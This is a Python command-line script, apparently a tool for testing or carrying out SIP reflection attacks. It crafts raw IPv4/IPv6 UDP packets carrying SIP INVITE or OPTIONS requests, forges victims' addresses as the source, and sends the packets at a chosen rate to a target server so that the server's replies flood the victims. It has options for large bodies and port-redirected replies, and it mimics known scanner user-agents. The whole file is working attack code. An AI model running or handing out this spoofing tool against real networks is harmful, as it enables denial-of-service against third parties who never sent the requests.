# SPDX-License-Identifier: GPL-2.0-or-later
"""Requests over UDP in the name of victims, who never sent them.

  reflect.py TARGET KIND COUNT VICTIM... [-r RATE]

KIND: many   each of a transaction of its own     same   one transaction, repeated
      big    many, with a body of 1000 bytes      tiny   many, as short as requests can be
      ports  many, that ask for the answer at other ports

Prints one line of JSON: how many were sent, their bytes with IP headers, how long it took."""
import argparse
import json
import socket
import struct
import time

IPV6_HDRINCL = 36  # not in the socket module

ap = argparse.ArgumentParser(usage=__doc__)
ap.add_argument("target")
ap.add_argument("kind", choices=("many", "same", "big", "tiny", "ports"))
ap.add_argument("count", type=int)
ap.add_argument("victim", nargs="+")
ap.add_argument("-r", "--rate", type=float, default=500)
a = ap.parse_args()
v6 = ":" in a.target
family = socket.AF_INET6 if v6 else socket.AF_INET
run = time.monotonic_ns() & 0xffffffff


def request(i, victim):
    i = 0 if a.kind == "same" else i
    if a.kind == "tiny":
        return (f"OPTIONS sip:a SIP/2.0\r\nv: SIP/2.0/UDP a;branch=z9hG4bK{run:x}{i}\r\nf: <sip:a>;tag=1\r\n"
                f"t: <sip:a>\r\ni: {i}\r\nCSeq: 1 OPTIONS\r\nUser-Agent: sipvicious\r\n\r\n")
    host = "[%s]" % victim if v6 else victim
    port, asked = (":%d" % (7 + i), "") if a.kind == "ports" else ("", ";rport")
    body = "x" * 1000 if a.kind == "big" else ""
    return (f"INVITE sip:100@pbx.example SIP/2.0\r\nVia: SIP/2.0/UDP {host}{port};branch=z9hG4bK{run:x}-{i}{asked}\r\n"
            f"Max-Forwards: 70\r\nFrom: <sip:100@pbx.example>;tag={run:x}\r\nTo: <sip:100@pbx.example>\r\n"
            f"Call-ID: {run:x}-{i}\r\nCSeq: 1 INVITE\r\nContact: <sip:100@{host}>\r\nUser-Agent: friendly-scanner\r\n"
            f"Record-Route: <sip:192.0.2.77;lr>\r\nContent-Length: {len(body)}\r\n\r\n{body}")


def checksum(data):
    data += b"\0" * (len(data) % 2)
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def packet(victim, payload):
    src, dst = (socket.inet_pton(family, x) for x in (victim, a.target))
    udp = struct.pack("!4H", 5060, 5060, 8 + len(payload), 0)
    sum_ = checksum(src + dst + struct.pack("!IHBB", 8 + len(payload), 0, 0, 17) + udp + payload)
    udp = udp[:6] + struct.pack("!H", sum_ or 0xffff) + payload
    if v6:
        return struct.pack("!IHBB", 6 << 28, len(udp), 17, 64) + src + dst + udp
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0) + src + dst + udp


raw = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
if v6:
    raw.setsockopt(socket.IPPROTO_IPV6, IPV6_HDRINCL, 1)
start, size = time.monotonic(), 0
for n in range(a.count):
    name = a.victim[n % len(a.victim)]
    data = packet(name, request(n, name).encode())
    time.sleep(max(0, start + n / a.rate - time.monotonic()))
    raw.sendto(data, (a.target, 0))
    size += len(data)
print(json.dumps({"sent": a.count, "bytes": size, "seconds": round(time.monotonic() - start, 3)}))
